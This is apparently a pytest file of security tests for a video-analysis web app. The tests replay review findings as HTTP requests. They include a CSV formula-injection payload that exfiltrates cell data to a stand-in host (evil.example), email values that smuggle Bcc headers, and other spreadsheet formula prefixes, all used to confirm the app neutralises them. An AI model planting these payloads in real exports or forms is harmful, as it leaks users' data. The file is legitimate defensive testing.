"""The low-severity findings of the security review, each as an attacker would try it over HTTP."""

from __future__ import annotations

import stat
import uuid

import httpx

from tests.helpers import PASSWORD, register, tiny_video, workspace
from tests.security.test_sign_in_throttle import app_clients
from visionscope.config import Settings
from visionscope.migrate import upgrade


async def _project(client: httpx.AsyncClient, ws: dict[str, str], headers: dict[str, str], name: str) -> str:
    made = await client.post(f"/v1/workspaces/{ws['id']}/projects", json={"name": name}, headers=headers)
    assert made.status_code == 201, made.text
    project_id: str = made.json()["id"]
    return project_id


async def test_every_message_of_a_chat_completion_is_capped(client: httpx.AsyncClient) -> None:
    owner = await register(client)
    model = f"video:{uuid.uuid4()}"
    huge_earlier = [
        {"role": "user", "content": "x" * 900_000},
        {"role": "assistant", "content": "ok"},
        {"role": "user", "content": "What is shown?"},
    ]
    answer = await client.post(
        "/v1/chat/completions", json={"model": model, "messages": huge_earlier}, headers=owner.headers
    )
    assert answer.status_code == 422, answer.status_code
    many = [{"role": "user", "content": "y" * 19_000} for _ in range(20)]
    answer = await client.post(
        "/v1/chat/completions", json={"model": model, "messages": many}, headers=owner.headers
    )
    assert answer.status_code == 422
    parts = [{"role": "user", "content": [{"type": "text", "text": "z" * 30_000}]}]
    answer = await client.post(
        "/v1/chat/completions", json={"model": model, "messages": parts}, headers=owner.headers
    )
    assert answer.status_code == 422


async def test_the_web_sign_up_refuses_what_the_api_refuses(client: httpx.AsyncClient) -> None:
    await client.get("/signup")
    token = client.cookies["vs_csrf"]
    bad = [
        {"email": "not-an-email", "name": "Eve"},
        {"email": "eve\u200b@example.com", "name": "Eve"},
        {"email": "eve@example.com\r\nBcc: x@example.com", "name": "Eve"},
        {"email": f"eve-{uuid.uuid4().hex[:6]}@example.com", "name": "Eve\r\nAdmin"},
        {"email": f"eve-{uuid.uuid4().hex[:6]}@example.com", "name": "E\u200bve"},
    ]
    for fields in bad:
        api = await client.post("/v1/auth/register", json={**fields, "password": PASSWORD})
        web = await client.post("/signup", data={**fields, "password": PASSWORD, "csrf_token": token})
        assert api.status_code == 422, (fields, api.status_code)
        assert web.status_code == 422, (fields, web.status_code)


async def test_common_and_blank_passwords_are_refused(client: httpx.AsyncClient) -> None:
    for password in ("password", "12345678", " " * 8, "Password", "qwertyuiop"):
        email = f"weak-{uuid.uuid4().hex[:6]}@example.com"
        answer = await client.post(
            "/v1/auth/register", json={"email": email, "password": password, "name": "W"}
        )
        assert answer.status_code == 422, (password, answer.status_code)
        assert answer.json()["errors"][0]["field"] == "password"


async def test_a_formula_in_a_project_name_reaches_the_csv_as_text(client: httpx.AsyncClient) -> None:
    owner = await register(client)
    ws = await workspace(client, owner)
    evil = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    names = [evil, "+1+1", "-2", "@SUM(A1)", "\tcmd", "\rx"]
    for name in names:
        project = await _project(client, ws, owner.headers, name)
        used = await client.post(
            f"/v1/workspaces/{ws['id']}/usage",
            json={"feature": "chat_message", "quantity": 1, "project_id": project},
            headers=owner.headers,
        )
        assert used.status_code == 201, used.text
    csv_text = (
        await client.get(
            f"/v1/workspaces/{ws['id']}/usage?group_by=project&format=csv", headers=owner.headers
        )
    ).text
    cells = [cell.strip('"') for line in csv_text.splitlines()[1:] for cell in line.split(",")]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)


async def test_results_count_against_the_rate_limit_but_the_players_media_does_not(
    settings: Settings,
) -> None:
    async with app_clients(settings, rate_limits={"free": 12, "pro": 12, "enterprise": 12}) as client:
        http = client("198.51.100.40")
        owner = await register(http)
        ws = await workspace(http, owner)
        project = await _project(http, ws, owner.headers, "p")
        upload = await http.post(
            f"/v1/projects/{project}/videos",
            files={"file": ("a.mp4", tiny_video(), "video/mp4")},
            headers=owner.headers,
        )
        video = upload.json()["id"]
        media = [
            (await http.get(f"/v1/videos/{video}/media", headers=owner.headers)).status_code
            for _ in range(15)
        ]
        assert 429 not in media
        results = [
            (await http.get(f"/v1/videos/{video}/{part}", headers=owner.headers)).status_code
            for part in ("transcript", "text", "chapters", "summary") * 5
        ]
        assert 429 in results


async def test_a_workspace_has_at_most_twenty_api_keys_with_short_names(client: httpx.AsyncClient) -> None:
    owner = await register(client)
    ws = await workspace(client, owner)
    url = f"/v1/workspaces/{ws['id']}/api-keys"
    long_name = await client.post(url, json={"name": "k" * 200, "role": "viewer"}, headers=owner.headers)
    assert long_name.status_code == 422
    made = [
        await client.post(url, json={"name": f"k{n}", "role": "viewer"}, headers=owner.headers)
        for n in range(20)
    ]
    assert {m.status_code for m in made} == {201}
    over = await client.post(url, json={"name": "one more", "role": "viewer"}, headers=owner.headers)
    assert over.status_code == 409 and over.json()["limit"] == 20
    revoked = await client.delete(f"{url}/{made[0].json()['id']}", headers=owner.headers)
    assert revoked.status_code == 204
    assert (
        await client.post(url, json={"name": "again", "role": "viewer"}, headers=owner.headers)
    ).status_code == 201


async def test_every_response_carries_the_protective_headers(client: httpx.AsyncClient) -> None:
    owner = await register(client)
    ws = await workspace(client, owner)
    project = await _project(client, ws, owner.headers, "p")
    upload = await client.post(
        f"/v1/projects/{project}/videos",
        files={"file": ("a.mp4", tiny_video(), "video/mp4")},
        headers=owner.headers,
    )
    answers = [
        await client.get("/v1/me", headers=owner.headers),
        await client.get("/v1/nothing-here"),
        await client.get(f"/v1/videos/{upload.json()['id']}/media", headers=owner.headers),
        await client.get("/healthz"),
        await client.get("/signin"),
    ]
    for answer in answers:
        assert answer.headers["x-content-type-options"] == "nosniff", answer.url
        assert answer.headers["x-frame-options"] == "DENY", answer.url
        assert "frame-ancestors 'none'" in answer.headers["content-security-policy"], answer.url
    assert "default-src 'none'" in answers[0].headers["content-security-policy"]


def test_data_files_are_readable_by_their_owner_only(settings: Settings) -> None:
    fresh = settings.model_copy(
        update={"data_dir": settings.data_dir.parent / "private", "secret_key": None, "database_url": None}
    )
    assert fresh.token_secret()
    assert stat.S_IMODE((fresh.data_dir / "secret.key").stat().st_mode) == 0o600
    upgrade(fresh.database)  # what `visionscope migrate` does on a new machine
    database = fresh.data_dir / "visionscope.db"
    assert database.stat().st_size > 0 and stat.S_IMODE(database.stat().st_mode) == 0o600
